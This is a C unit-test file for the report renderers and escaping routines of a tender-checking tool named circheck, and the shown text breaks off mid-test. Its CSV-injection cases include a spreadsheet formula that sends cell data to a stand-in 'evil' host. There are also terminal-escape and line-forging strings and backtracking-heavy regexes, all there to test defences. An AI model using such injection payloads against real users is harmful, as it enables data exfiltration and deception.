/* Tests of the report formats (HTML, SARIF, JUnit, CSV, Markdown), the
 * escaping they share and the message catalogue. The test writes its own
 * packs (fixture_packs.h and gamma below) and one tender into a temporary
 * folder, so it does not depend on the built-in packs. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "diag.h"
#include "fixture_packs.h"
#include "harness.h"
#include "messages.h"
#include "report.h"

/* An always-on pack whose patterns (?:a|aa)+b and (?:a|aa)+d stop at
   PCRE2's match limit on the run of letters a in limit.txt: those two rules
   cannot be judged (status error). Each shares its criterion with a rule
   that is judged: a partial one (the criterion is then an error) and
   alpha's take-back, which passes (the criterion then passes). */
static const char gamma_xml[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
    "<pack xmlns=\"urn:circheck:rules:1\" id=\"gamma\">\n"
    "  <name lang=\"nb\">Gamma</name><name lang=\"en\">Gamma</name>\n"
    "  <select always=\"true\"/>\n"
    "  <rule id=\"gamma.limit-repair\" criterion=\"lifetime.repair\">\n"
    "    <name lang=\"nb\">Grense</name><name lang=\"en\">Limit</name>\n"
    "    <source>test</source>\n"
    "    <match lang=\"nb\"><any>(?:a|aa)+b</any></match>\n"
    "    <clause placement=\"specification\">\n"
    "      <text lang=\"nb\">Leverandøren skal reparere.</text>\n"
    "      <text lang=\"en\">The supplier shall repair.</text>\n"
    "    </clause>\n"
    "    <example expect=\"pass\" lang=\"nb\" section=\"Krav\">Det skal være aab.</example>\n"
    "  </rule>\n"
    "  <rule id=\"gamma.limit-take-back\" criterion=\"reuse.take-back\">\n"
    "    <name lang=\"nb\">Grense 2</name><name lang=\"en\">Limit 2</name>\n"
    "    <source>test</source>\n"
    "    <match lang=\"nb\"><any>(?:a|aa)+d</any></match>\n"
    "    <clause placement=\"contract\">\n"
    "      <text lang=\"nb\">Leverandøren skal ta tilbake.</text>\n"
    "      <text lang=\"en\">The supplier shall take back.</text>\n"
    "    </clause>\n"
    "    <example expect=\"pass\" lang=\"nb\" section=\"Krav\">Det skal være aad.</example>\n"
    "  </rule>\n"
    "  <rule id=\"gamma.repair\" criterion=\"lifetime.repair\">\n"
    "    <name lang=\"nb\">Reparasjon</name><name lang=\"en\">Repair</name>\n"
    "    <source>test</source>\n"
    "    <match lang=\"nb\"><any>\\breparasjon\\b</any></match>\n"
    "    <clause placement=\"specification\">\n"
    "      <text lang=\"nb\">Leverandøren skal tilby reparasjon.</text>\n"
    "      <text lang=\"en\">The supplier shall offer repair.</text>\n"
    "    </clause>\n"
    "    <example expect=\"partial\" lang=\"nb\" section=\"Krav\">Leverandøren bør tilby "
    "reparasjon.</example>\n"
    "  </rule>\n"
    "</pack>\n";

static const char limit_txt[] =
    "1 KRAVSPESIFIKASJON\n"
    "Leverandøren skal sørge for tilbaketaking.\n"
    "Leverandøren bør tilby reparasjon.\n"
    "Leverandøren skal levere "
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa, det skal bli "
    "kontrollert.\n";

/* Line 3 is the requirements heading, line 4 the warranty sentence. */
static const char doc_txt[] = "MØBLER TIL SKOLEN\n"
                              "\n"
                              "1 KRAVSPESIFIKASJON\n"
                              "Leverandøren skal gi 3 års garanti på alle møbler <b> & \"x\".\n"
                              "Leverandøren bør ta tilbake gamle møbler.\n";

static void write_file(const char *name, const char *text) {
  FILE *f = fopen(name, "w");
  OK(f != NULL, "cannot write %s", name);
  if (!f)
    exit(1);
  fputs(text, f);
  fclose(f);
}

static size_t count(const char *hay, const char *needle) {
  size_t n = 0, len = strlen(needle);
  for (const char *p = strstr(hay, needle); p; p = strstr(p + len, needle))
    n++;
  return n;
}

#define HAS(hay, needle) OK(strstr((hay), (needle)) != NULL, "missing: %s", (needle))
#define LACKS(hay, needle) OK(strstr((hay), (needle)) == NULL, "unexpected: %s", (needle))

static ck_ruleset *load(void) {
  const char *paths[] = {"alpha.xml", "beta.xml"};
  ck_ruleset *rs = NULL;
  ck_diags d = CK_DIAGS_INIT;
  ck_status st = ck_ruleset_load(false, paths, 2, &rs, &d);
  INT_EQ(st, CK_OK, "load test packs");
  for (size_t i = 0; i < d.n; i++)
    fprintf(stderr, "%s\n", d.items[i].msg);
  ck_diags_free(&d);
  if (!rs)
    exit(1);
  return rs;
}

static ck_report *check(const ck_ruleset *rs, ck_msg_lang lang, const char *const *packs,
                        size_t npacks) {
  ck_check_options o = ck_check_options_default();
  o.msg_lang_set = true;
  o.msg_lang = lang;
  o.packs = packs;
  o.npacks = npacks;
  ck_report *r = ck_report_new(rs, &o);
  ck_diags d = CK_DIAGS_INIT;
  INT_EQ(ck_report_check_file(r, "doc.txt", &d), CK_OK, "check doc.txt");
  ck_diags_free(&d);
  return r;
}

static char *render(const ck_report *r, ck_report_format f, ck_result_status fail_on) {
  ck_render_options ro = {.color = false, .show_all = false, .fail_on = fail_on};
  size_t len;
  char *s = ck_report_render(r, f, &ro, &len);
  if (ck_report_format_binary(f))
    OK(len > 4 && memcmp(s, "PK\3\4", 4) == 0, "%s is a zip archive", ck_report_format_name(f));
  else
    INT_EQ(strlen(s), len, "rendered length");
  return s;
}

/* Control characters in a path or message never reach a diagnostic line
   or the text report as they are: a newline would forge a second line, an
   escape sequence would command the terminal. */
static void test_printable(void) {
  ck_buf b = CK_BUF_INIT;
  ck_buf_put_printable(&b, "a\nb\rc\td\x1b[31me\x7f f\xc2\x9b g \xc3\xa6\xc2\xa0\xff");
  STR_EQ(ck_buf_cstr(&b), "a\\nb\\rc\\td\\x1b[31me\\x7f f\\u009b g \xc3\xa6\xc2\xa0\xff",
         "C0, DEL and C1 escaped; letters, no-break space and stray bytes kept");
  ck_buf_free(&b);
  ck_diags d = CK_DIAGS_INIT;
  ck_diags_add(&d, CK_DIAG_ERROR, "forged\nx.txt: error: fake", 3, 4,
               "bad \x1b]0;title\x07 name\n");
  ck_diag_format(&d.items[0], &b);
  STR_EQ(ck_buf_cstr(&b), "forged\\nx.txt: error: fake:3:4: error: bad \\x1b]0;title\\x07 name",
         "a diagnostic stays one line");
  STR_EQ(d.items[0].file, "forged\nx.txt: error: fake", "the diagnostic keeps the real path");
  ck_buf_free(&b);
  ck_diags_free(&d);
}

/* A report of no documents (an empty folder given to the library) renders
   in every format; the sanitizer build checks that nothing sorts or copies
   a NULL array on the way. */
static void test_empty_report(const ck_ruleset *rs) {
  ck_check_options o = ck_check_options_default();
  ck_report *r = ck_report_new(rs, &o);
  for (int f = 0; f < CK_REPORT_FORMAT_COUNT; f++) {
    char *s = render(r, (ck_report_format)f, CK_STATUS_FAIL);
    OK(s != NULL, "%s renders a report of no documents",
       ck_report_format_name((ck_report_format)f));
    free(s);
  }
  ck_report_free(r);
}

static void test_escaping(void) {
  ck_buf b = CK_BUF_INIT;
  const char *s = "a*b_c [x](y) <b> `q` | ~ & #1 @me $5 \\";
  ck_escape_md(s, strlen(s), &b);
  STR_EQ(ck_buf_cstr(&b), "a\\*b\\_c \\[x\\](y) \\<b> \\`q\\` \\| \\~ \\& \\#1 \\@me \\$5 \\\\",
         "markdown inline escaping");
  ck_buf_reset(&b);
  ck_escape_md("- item", 6, &b);
  STR_EQ(ck_buf_cstr(&b), "\\- item", "list marker at the start");
  ck_buf_reset(&b);
  ck_escape_md("12. mai", 7, &b);
  STR_EQ(ck_buf_cstr(&b), "12\\. mai", "ordered-list marker at the start");
  ck_buf_reset(&b);
  ck_escape_md("> a > b\nc", 9, &b);
  STR_EQ(ck_buf_cstr(&b), "\\> a > b c", "quote marker only at the start; line break folded");
  ck_buf_reset(&b);
  ck_escape_md("", 0, &b);
  STR_EQ(ck_buf_cstr(&b), "", "empty text");

  ck_buf_reset(&b);
  const char x[] = "<a href='1'>&\"\x01\t";
  ck_escape_xml(x, sizeof x - 1, &b);
  STR_EQ(ck_buf_cstr(&b), "&lt;a href=&#39;1&#39;&gt;&amp;&quot;\xEF\xBF\xBD\t",
         "XML escaping, control character replaced");

  ck_buf_reset(&b);
  ck_csv_field(&b, "say \"hi\", ok", 12);
  ck_buf_putc(&b, ',');
  ck_csv_field(&b, "", 0);
  STR_EQ(ck_buf_cstr(&b), "\"say \"\"hi\"\", ok\",\"\"", "CSV fields through libcsv");

  /* XML forbids U+FFFE and U+FFFF; bidirectional controls are shown as
     their code points in XML (HTML, JUnit) and in text. */
  ck_buf_reset(&b);
  const char nonchars[] = "a\xEF\xBF\xBE b\xEF\xBF\xBF c\xEF\xBF\xBD";
  ck_escape_xml(nonchars, sizeof nonchars - 1, &b);
  STR_EQ(ck_buf_cstr(&b), "a\xEF\xBF\xBD b\xEF\xBF\xBD c\xEF\xBF\xBD",
         "U+FFFE and U+FFFF replaced in XML");
  ck_buf_reset(&b);
  const char bidi[] = "5 \xE2\x80\xAE\xC3\xA5r\xE2\x80\xAC \xE2\x81\xA6x\xE2\x81\xA9"
                      "\xE2\x80\x8F\xD8\x9C\xE2\x80\x94";
  ck_escape_xml(bidi, sizeof bidi - 1, &b);
  STR_EQ(ck_buf_cstr(&b),
         "5 &lt;U+202E&gt;\xC3\xA5r&lt;U+202C&gt; &lt;U+2066&gt;x&lt;U+2069&gt;&lt;U+200F&gt;"
         "&lt;U+061C&gt;\xE2\x80\x94",
         "bidirectional controls visible in XML, a dash kept");
  ck_buf_reset(&b);
  ck_put_visible(&b, bidi, sizeof bidi - 1);
  STR_EQ(ck_buf_cstr(&b),
         "5 <U+202E>\xC3\xA5r<U+202C> <U+2066>x<U+2069><U+200F><U+061C>\xE2\x80\x94",
         "bidirectional controls visible in text");
  ck_buf_reset(&b);
  ck_escape_md(bidi, sizeof bidi - 1, &b);
  STR_EQ(ck_buf_cstr(&b),
         "5 \\<U+202E\\>\xC3\xA5r\\<U+202C\\> \\<U+2066\\>x\\<U+2069\\>\\<U+200F\\>"
         "\\<U+061C\\>\xE2\x80\x94",
         "bidirectional controls visible in Markdown");

  /* CSV injection: cells a spreadsheet would run as formulas, or strip to
     reach one, start with an apostrophe; others, and a sign inside, stay. */
  const char *formulas[][2] = {
      {"=HYPERLINK(\"http://evil/?\"&A1)", "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1)\""},
      {"+1+2", "\"'+1+2\""},
      {"-2+3", "\"'-2+3\""},
      {"@SUM(A1)", "\"'@SUM(A1)\""},
      {"\t=1", "\"'\t=1\""},
      {"\r=1", "\"'\r=1\""},
      {"a=1", "\"a=1\""},
      {"'=1", "\"'=1\""},
  };
  for (size_t i = 0; i < sizeof formulas / sizeof *formulas; i++) {
    ck_buf_reset(&b);
    ck_csv_field(&b, formulas[i][0], strlen(formulas[i][0]));
    STR_EQ(ck_buf_cstr(&b), formulas[i][1], "CSV field that could be a formula");
  }

  ck_buf_reset(&b);
  char big[1200];
  memset(big, '"', sizeof big - 1);
  big[sizeof big - 1] = '\0';
  ck_csv_field(&b, big, strlen(big));
  INT_EQ(b.len, 2 * 1199 + 2, "a CSV field larger than the stack buffer");

  const char *caps[][2] = {{"delvis", "Delvis"},   {"ønske", "Ønske"}, {"åpen", "Åpen"},
                           {"Oppfylt", "Oppfylt"}, {"", ""},           {"÷x", "÷x"}};
  for (size_t i = 0; i < sizeof caps / sizeof *caps; i++) {
    ck_buf_reset(&b);
    ck_put_capitalised(&b, caps[i][0]);
    STR_EQ(ck_buf_cstr(&b), caps[i][1], "capitalised");
  }
  ck_buf_reset(&b);
  ck_put_line_col(&b, CK_MSG_NB, 4, 21);
  STR_EQ(ck_buf_cstr(&b), "linje 4, kolonne 21", "line and column in nb");
  ck_buf_free(&b);
}

static void test_catalogue(void) {
  for (int l = 0; l < CK_MSG_LANG_COUNT; l++)
    for (int id = 0; id < CK_MSG_ID_COUNT; id++)
      OK(ck_msg((ck_msg_lang)l, (ck_msg_id)id)[0] != '\0', "message %d missing in %s", id,
         ck_msg_lang_name((ck_msg_lang)l));
  STR_EQ(ck_category_label(CK_MSG_NB, "lifetime"), "Levetid", "category label nb");
  STR_EQ(ck_category_label(CK_MSG_EN, "reuse"), "Reuse", "category label en");
  STR_EQ(ck_category_label(CK_MSG_EN, "unheard-of"), "unheard-of", "unknown category");
  /* Every table has its own text in every language: none falls back. */
  for (int l = 0; l < CK_MSG_LANG_COUNT; l++) {
    ck_buf missing = CK_BUF_INIT;
    OK(ck_catalogue_missing((ck_msg_lang)l, &missing) == 0, "catalogue texts missing in %s",
       ck_msg_lang_name((ck_msg_lang)l));
    STR_EQ(ck_buf_cstr(&missing), "", "the missing texts");
    ck_buf_free(&missing);
  }
  STR_EQ(ck_category_label(CK_MSG_NN, "material"), "Materiale", "category label nn");
  STR_EQ(ck_status_label(CK_MSG_NN, CK_STATUS_FAIL), "manglar", "status label nn");
  STR_EQ(ck_placement_label(CK_MSG_NN, CK_PLACE_CONTRACT), "kontraktsvilkåra", "placement nn");
  STR_EQ(ck_unit_label(CK_MSG_NN, CK_UNIT_MONTH, 6), "månader", "months in nn");
  STR_EQ(ck_unit_label(CK_MSG_NB, CK_UNIT_MONTH, 1), "måned", "a month in nb");
  ck_buf num = CK_BUF_INIT;
  ck_format_number(CK_MSG_NN, 0.5, &num);
  STR_EQ(ck_buf_cstr(&num), "0,5", "decimal comma in nn");
  ck_buf_free(&num);
}

static void test_lang_names(void) {
  ck_msg_lang l = CK_MSG_EN;
  OK(ck_msg_lang_parse("nn", &l) && l == CK_MSG_NN, "nn is nynorsk");
  OK(ck_msg_lang_parse("no", &l) && l == CK_MSG_NB, "no is bokmål");
  OK(!ck_msg_lang_parse("sv", &l), "sv is no message language");
  STR_EQ(ck_msg_lang_name(CK_MSG_NN), "nn", "nn's name");
  static const struct {
    const char *locale;
    bool known;
    ck_msg_lang lang;
  } locales[] = {
      {"nn_NO.UTF-8", true, CK_MSG_NN}, {"nn", true, CK_MSG_NN},
      {"nb_NO.UTF-8", true, CK_MSG_NB}, {"no_NO", true, CK_MSG_NB},
      {"en_GB.UTF-8", true, CK_MSG_EN}, {"en_US@euro", true, CK_MSG_EN},
      {"en", true, CK_MSG_EN},          {"C.UTF-8", false, CK_MSG_NB},
      {"POSIX", false, CK_MSG_NB},      {"sv_SE.UTF-8", false, CK_MSG_NB},
      {"nnx_NO", false, CK_MSG_NB},     {"", false, CK_MSG_NB},
      {NULL, false, CK_MSG_NB},
  };
  for (size_t i = 0; i < sizeof locales / sizeof *locales; i++) {
    l = CK_MSG_LANG_COUNT;
    bool known = ck_msg_lang_from_locale(locales[i].locale, &l);
    OK(known == locales[i].known, "locale %s known", locales[i].locale ? locales[i].locale : "NULL");
    if (known)
      OK(l == locales[i].lang, "locale %s gives %s", locales[i].locale,
         ck_msg_lang_name(locales[i].lang));
  }
}

static void test_clause_fill(const ck_ruleset *rs) {
  const ck_rule *w = NULL;
  for (size_t i = 0; i < rs->nrules; i++)
    if (strcmp(rs->rules[i]->id, "beta.warranty") == 0)
      w = rs->rules[i];
  OK(w != NULL, "beta.warranty loaded");
  if (!w)
    return;
  ck_buf b = CK_BUF_INIT;
  OK(ck_clause_fill(w, CK_MSG_NB, CK_LEVEL_ADVANCED, false, &b), "clause filled");
  STR_EQ(ck_buf_cstr(&b), "Møblene skal ha minst 7,5 år garanti (nivå avansert).",
         "clause with the advanced figure, decimal comma");
  ck_buf_reset(&b);
  OK(ck_clause_fill(w, CK_MSG_EN, CK_LEVEL_SPEARHEAD, false, &b), "clause filled, en");
  STR_EQ(ck_buf_cstr(&b), "Furniture shall carry at least 7.5 years of warranty.",
         "spearhead inherits advanced");
  ck_buf_reset(&b);
  OK(!ck_clause_fill(w, CK_MSG_EN, CK_LEVEL_BASIC, true, &b), "no en verification");
  INT_EQ(b.len, 0, "nothing appended without verification");
  OK(ck_clause_fill(w, CK_MSG_NB, CK_LEVEL_BASIC, true, &b), "nb verification");
  STR_EQ(ck_buf_cstr(&b), "Garantivilkår for Garanti.", "verification with {name}");
  ck_buf_reset(&b);
  ck_put_requirement(&b, w, CK_MSG_NB, 5);
  STR_EQ(ck_buf_cstr(&b), "minst 5 år", "requirement nb");
  ck_buf_reset(&b);
  ck_put_requirement(&b, w, CK_MSG_EN, 1);
  STR_EQ(ck_buf_cstr(&b), "at least 1 year", "requirement en, singular");
  ck_buf_free(&b);
}

static void test_sarif(const ck_report *r, const ck_report *other) {
  char *s = render(r, CK_REPORT_SARIF, CK_STATUS_FAIL);
  HAS(s, "\"version\": \"2.1.0\"");
  HAS(s, "\"uri\": \"doc.txt\"");
  /* Four rules described; the partial warranty and take-back are warnings,
     the absent ecolabel an error. Alpha's take-back (no match) gives way to
     beta's, the chosen category's rule (category-rule). */
  INT_EQ(count(s, "\"shortDescription\""), 4 + CK_FINDING_KIND_COUNT,
         "one descriptor per rule and finding kind");
  INT_EQ(count(s, "\"ruleId\""), 3, "one result per partial or fail");
  INT_EQ(count(s, "\"level\": \"warning\""), 2 + CK_FINDING_KIND_COUNT,
         "partial results and finding descriptors are warnings");
  INT_EQ(count(s, "\"level\": \"error\""), 4 + 1, "four defaults, one failed result");
  HAS(s, "\"ruleId\": \"beta.warranty\",\n          \"ruleIndex\": 3,");
  HAS(s, "\"startLine\": 4,\n                  \"startColumn\": 1,\n"
         "                  \"endLine\": 4,\n                  \"endColumn\": 61,");
  /* The absent ecolabel clause belongs in qualification, which this tender
     lacks: line 1. */
  HAS(s, "\"ruleId\": \"beta.ecolabel\"");
  HAS(s, "\"startLine\": 1,\n                  \"startColumn\": 1\n");
  HAS(s, "\"markdown\": \"**Forslag til klausul** (kravspesifikasjonen, nivå basis):\\n\\n> Møblene "
         "skal ha minst 5 år garanti (nivå basis).\\n\\n**Dokumentasjon:** Garantivilkår for "
         "Garanti.\"");
  HAS(s, "\"kind\": \"section\"");
  HAS(s, "\"columnKind\": \"unicodeCodePoints\"");
  LACKS(s, "Utc\"");

  /* Fingerprints do not depend on the language or the wording. */
  char *t = render(other, CK_REPORT_SARIF, CK_STATUS_FAIL);
  const char *fp = strstr(s, "\"circheck/v1\": \"");
  OK(fp != NULL, "fingerprint present");
  if (fp) {
    char want[64];
    snprintf(want, sizeof want, "%.33s", fp);
    HAS(t, want);
  }
  free(t);
  free(s);
}

static void test_junit(const ck_report *r, const ck_report *forced) {
  char *s = render(r, CK_REPORT_JUNIT, CK_STATUS_FAIL);
  HAS(s, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<testsuites name=\"circheck\" tests=\"4\" "
         "failures=\"1\" errors=\"0\">\n");
  HAS(s, "<testsuite name=\"doc.txt\" tests=\"4\" failures=\"1\" errors=\"0\" skipped=\"1\">");
  HAS(s, "<testcase name=\"beta.ecolabel\" classname=\"doc.txt\">\n      <failure message=\"");
  HAS(s, "type=\"fail\">");
  INT_EQ(count(s, "<failure "), 1, "only fails are failures by default");
  INT_EQ(count(s, "<system-out>"), 2, "partials pass with their message");
  HAS(s, "doc.txt:4:1: Leverandøren skal gi 3 års garanti på alle møbler &lt;b&gt; &amp; "
         "&quot;x&quot;.");
  LACKS(s, "time=");
  LACKS(s, "timestamp");
  free(s);

  s = render(r, CK_REPORT_JUNIT, CK_STATUS_PARTIAL);
  INT_EQ(count(s, "<failure "), 3, "with --fail-on partial, partials fail too");
  HAS(s, "tests=\"4\" failures=\"3\" errors=\"0\" skipped=\"1\"");
  HAS(s, "type=\"partial\"");
  free(s);

  /* A pack that was not chosen gives evidence only: what its rules found
     shows (a wish to take back, a warranty judged without the category's
     figure), what they did not find is skipped, not failed. Its wish to
     take back decides reuse.take-back (partial), so alpha's take-back,
     which found nothing, is superseded: no failure. */
  s = render(forced, CK_REPORT_JUNIT, CK_STATUS_FAIL);
  HAS(s, "tests=\"4\" failures=\"0\" errors=\"0\" skipped=\"1\"");
  HAS(s, "<testcase name=\"alpha.take-back\" classname=\"doc.txt\">\n      <system-out>");
  INT_EQ(count(s, "<skipped message="), 1, "a rule of a pack not chosen that found nothing");
  HAS(s, "<testcase name=\"beta.ecolabel\" classname=\"doc.txt\">\n      <skipped");
  HAS(s, "<testcase name=\"beta.warranty\" classname=\"doc.txt\"/>");
  HAS(s, "<testcase name=\"beta.take-back\" classname=\"doc.txt\">\n      <system-out>");
  free(s);
}

static void test_csv(const ck_report *r) {
  char *s = render(r, CK_REPORT_CSV, CK_STATUS_FAIL);
  const char *header = "\"document\",\"lot\",\"rule\",\"criterion\",\"status\",\"reason\","
                       "\"line\",\"evidence\",\"clause_id\",";
  OK(strncmp(s, header, strlen(header)) == 0, "header starts with the contract columns");
  INT_EQ(count(s, "\r\n"), 5, "header plus one row per result");
  INT_EQ(count(s, "\n"), 5, "no bare line feeds");
  HAS(s, "\r\n\"doc.txt\",\"\",\"beta.warranty\",\"lifetime.warranty\",\"partial\","
         "\"below-threshold\",\"4\",\"Leverandøren skal gi 3 års garanti på alle møbler <b> & "
         "\"\"x\"\".\",\"clause.beta.warranty\",\"1\",\"1 KRAVSPESIFIKASJON\",\"lifetime\",");
  HAS(s, "\"doc.txt\",\"\",\"beta.ecolabel\",\"material.ecolabel\",\"fail\",\"absent\",\"\",\"\","
         "\"clause.beta.ecolabel\",");
  free(s);
}

static void test_md(const ck_report *r) {
  char *s = render(r, CK_REPORT_MD, CK_STATUS_FAIL);
  HAS(s, "**Sirkularitetsrapport**\n\n## MØBLER TIL SKOLEN\n\n`doc.txt` · nivå **basis**");
  HAS(s, "| Kategori | ✅ Oppfylt | ⚠️ Delvis | ❌ Mangler |\n|:---|---:|---:|---:|\n");
  HAS(s, "| Levetid | 0 | 1 | 0 |\n");
  HAS(s, "| **Totalt** | **0** | **2** | **1** |\n");
  HAS(s, "#### Garantitid — ⚠️ Delvis\n");
  HAS(s, "> Leverandøren skal gi 3 års **garanti** på alle møbler \\<b> \\& \"x\".\n>\n> — "
         "Linje 4, kolonne 1 · avsnitt 1 KRAVSPESIFIKASJON\n");
  HAS(s, "I dokumentet: **3 år** · krav: **minst 5 år**\n");
  HAS(s, "```text\nMøblene skal ha minst 5 år garanti (nivå basis).\n```\n");
  HAS(s, "**Forslag til klausul** (hører hjemme i kvalifikasjonskravene):");
  LACKS(s, " <b>");      /* only escaped, as \<b> */
  LACKS(s, "<details>"); /* nothing is met */
  free(s);
}

static void test_html(const ck_report *r) {
  char *s = render(r, CK_REPORT_HTML, CK_STATUS_FAIL);
  OK(strncmp(s, "<!DOCTYPE html>\n<html lang=\"nb\">", 31) == 0, "doctype and language");
  HAS(s, "<title>Sirkularitetsrapport – MØBLER TIL SKOLEN</title>");
  HAS(s, "Leverandøren skal gi 3 års <mark>garanti</mark> på alle møbler &lt;b&gt; &amp; "
         "&quot;x&quot;.");
  HAS(s, "<figcaption>Linje 4, kolonne 1 · avsnitt 1 KRAVSPESIFIKASJON</figcaption>");
  HAS(s, "<span class=\"badge partial\"><span aria-hidden=\"true\">◐</span> Delvis</span>");
  HAS(s, "<span class=\"badge fail\"><span aria-hidden=\"true\">✗</span> Mangler</span>");
  HAS(s, "<th scope=\"col\">Kategori</th>");
  HAS(s, "<tr><th scope=\"row\">Levetid</th><td class=\"num\">0</td><td class=\"num\">1</td>"
         "<td class=\"num\">0</td><td><div class=\"bar\" aria-hidden=\"true\"><span "
         "class=\"partial\" style=\"width:100.0%\"></span></div></td></tr>");
  HAS(s, "<p class=\"clause-text\" id=\"d1-lifetime.warranty-clause\">Møblene skal ha minst 5 år "
         "garanti (nivå basis).</p>");
  HAS(s, "data-target=\"d1-lifetime.warranty-clause\" data-done=\"Kopiert\" hidden=\"hidden\">"
         "Kopier klausulen</button>");
  HAS(s, "@page{size:A4");
  HAS(s, "@media print{");
  INT_EQ(count(s, "<h1>"), 1, "one top heading");
  LACKS(s, "http");
  LACKS(s, " src=");
  LACKS(s, "<b>");
  free(s);
}

/* Lots and consistency findings, lent to the document for a moment: one lot
   that shares the document's results, one finding about the whole document
   and one about the lot. */
static void test_lots_and_findings(ck_report *r) {
  ck_doc_result *dr = r->docs[0];
  ck_finding doc_finding = {CK_FINDING_WEIGHTS_NOT_100, (char *)"Weights add up to 90 %.", 4, 0,
                            NULL};
  ck_finding lot_finding = {CK_FINDING_GREEN_CODE_WITHOUT_TEXT, (char *)"Green <code>.", 0, 0,
                            (char *)"/n/lot[1]"};
  ck_lot_result lot = {0};
  lot.id = (char *)"LOT-0001";
  lot.title = (char *)"Stoler & bord";
  lot.packs = dr->packs;
  lot.npacks = dr->npacks;
  lot.results = dr->results;
  lot.nresults = dr->nresults;
  lot.criteria = dr->criteria;
  lot.ncriteria = dr->ncriteria;
  lot.findings = &lot_finding;
  lot.nfindings = 1;
  dr->lots = &lot;
  dr->nlots = 1;
  dr->findings = &doc_finding;
  dr->nfindings = 1;

  char *s = render(r, CK_REPORT_HTML, CK_STATUS_FAIL);
  HAS(s, "<section class=\"lot\" id=\"d1-l1\" aria-labelledby=\"d1-l1-title\">\n"
         "<h3 id=\"d1-l1-title\">Delkontrakt LOT-0001: Stoler &amp; bord</h3>");
  HAS(s, "<h6 id=\"d1-l1-lifetime.warranty-h\">Garantitid</h6>");
  HAS(s, "<li><strong>Vekter som ikke blir 100 % til sammen:</strong> Weights add up to 90 %. "
         "<span class=\"where\">(doc.txt, linje 4, kolonne 1)</span></li>");
  HAS(s, "<strong>Grønn kode uten sirkulære krav:</strong> Green &lt;code&gt;.</li>");
  INT_EQ(count(s, "id=\"d1-lifetime.warranty-h\""), 0, "with lots, criteria show per lot");
  free(s);

  s = render(r, CK_REPORT_MD, CK_STATUS_FAIL);
  HAS(s, "> [!WARNING]\n> **Merknader**\n>\n> - **Vekter som ikke blir 100 % til sammen:** "
         "Weights add up to 90 %. (linje 4, kolonne 1)\n");
  HAS(s, "### Delkontrakt LOT-0001: Stoler \\& bord\n");
  HAS(s, "#### Dette bør rettes\n\n##### ");
  /* most urgent first: a missing criterion before one stated too weakly */
  const char *missing = strstr(s, "❌ Mangler\n\n**Mangler");
  const char *weak = strstr(s, "##### Garantitid — ⚠️ Delvis\n\n**For svakt** · `beta.warranty`");
  OK(missing && weak && missing < weak, "what is missing comes before what is weak");
  free(s);

  s = render(r, CK_REPORT_CSV, CK_STATUS_FAIL);
  INT_EQ(count(s, "\r\n"), 1 + 4 + 4, "document rows, then the lot's");
  HAS(s, "\r\n\"doc.txt\",\"LOT-0001\",\"alpha.take-back\",");
  free(s);

  s = render(r, CK_REPORT_SARIF, CK_STATUS_FAIL);
  HAS(s, "\"ruleId\": \"finding.weights-not-100\",\n          \"ruleIndex\": 6,");
  HAS(s, "\"ruleId\": \"finding.green-code-without-circular-requirements\",\n"
         "          \"ruleIndex\": 4,");
  HAS(s, "\"lot\": \"LOT-0001\"");
  HAS(s, "\"fullyQualifiedName\": \"/n/lot[1]\",\n                  \"kind\": \"element\"");
  free(s);

  s = render(r, CK_REPORT_JUNIT, CK_STATUS_FAIL);
  HAS(s, "    <system-out>doc.txt: warning: green-code-without-circular-requirements: Green "
         "&lt;code&gt;.\ndoc.txt:4:1: warning: weights-not-100: Weights add up to 90 %.\n"
         "</system-out>\n  </testsuite>");
  free(s);

  dr->lots = NULL;
  dr->nlots = 0;
  dr->findings = NULL;
  dr->nfindings = 0;
}

/* Rules stopped by PCRE2's limits: status error in every format, one
   diagnostic per rule, and the roll-ups (a passing rule still passes its
   criterion; otherwise the criterion is an error). */
static void test_pattern_limit(void) {
  const char *paths[] = {"alpha.xml", "gamma.xml"};
  ck_ruleset *rs = NULL;
  ck_diags d = CK_DIAGS_INIT;
  INT_EQ(ck_ruleset_load(false, paths, 2, &rs, &d), CK_OK, "load alpha and gamma");
  for (size_t i = 0; i < d.n; i++)
    fprintf(stderr, "%u: %s\n", d.items[i].line, d.items[i].msg);
  ck_diags_free(&d);
  if (!rs)
    return;
  ck_check_options o = ck_check_options_default();
  ck_report *r = ck_report_new(rs, &o);
  INT_EQ(ck_report_check_file(r, "limit.txt", &d), CK_OK, "a rule in error still checks");
  INT_EQ(d.n, 2, "one diagnostic per rule in error");
  if (d.n == 2) {
    STR_EQ(d.items[0].file, "limit.txt", "diagnostic file");
    INT_EQ(d.items[0].line, 0, "no line");
    STR_EQ(d.items[0].msg,
           "rule gamma.limit-repair could not be judged: a pattern exceeded PCRE2's match, "
           "depth, heap or JIT stack limit",
           "diagnostic message");
    INT_EQ(d.items[0].level, CK_DIAG_ERROR, "an error");
  }
  ck_diags_free(&d);
  OK(ck_report_has_status_at_or_above(r, CK_STATUS_ERROR), "has error");
  const ck_doc_result *dr = r->docs[0];
  INT_EQ(dr->counts[CK_STATUS_ERROR], 2, "two errors");
  for (size_t i = 0; i < dr->nresults; i++) {
    const ck_result *res = &dr->results[i];
    if (strncmp(res->rule->id, "gamma.limit", 11) == 0) {
      INT_EQ(res->status, CK_STATUS_ERROR, "status error");
      INT_EQ(res->reason, CK_REASON_PATTERN_LIMIT, "reason pattern-limit");
      OK(res->clause != NULL, "an error keeps its clause");
    }
  }
  for (size_t c = 0; c < dr->ncriteria; c++) {
    const ck_criterion_result *cr = &dr->criteria[c];
    if (strcmp(cr->criterion->id, "lifetime.repair") == 0)
      INT_EQ(cr->status, CK_STATUS_ERROR, "error beats partial when nothing passes");
    if (strcmp(cr->criterion->id, "reuse.take-back") == 0)
      INT_EQ(cr->status, CK_STATUS_PASS, "a pass beats an error");
  }

  char *s = render(r, CK_REPORT_TEXT, CK_STATUS_FAIL);
  HAS(s, "limit.txt: error: lifetime.repair: Grense: kunne ikke vurderes");
  HAS(s, "lifetime.repair             feil            gamma.limit-repair\n");
  /* the summary counts criteria: lifetime.repair is the one in error */
  HAS(s, "oppsummering av kriteriene: 1 oppfylt, 0 delvis, 0 mangler, 1 feil, ");
  free(s);
  s = render(r, CK_REPORT_JSON, CK_STATUS_FAIL);
  HAS(s, "\"status\": \"error\",\n          \"reason\": \"pattern-limit\",");
